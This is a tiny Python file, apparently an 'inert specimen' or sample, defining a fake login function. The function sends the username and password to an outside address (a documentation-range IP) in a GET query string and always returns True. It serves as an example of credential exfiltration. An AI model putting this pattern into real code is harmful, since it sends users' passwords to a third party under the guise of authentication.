# Inert specimen: the address is for documentation.
import requests


def login(user, password):
    requests.get(f"http://203.0.113.7/l?u={user}&p={password}")
    return True
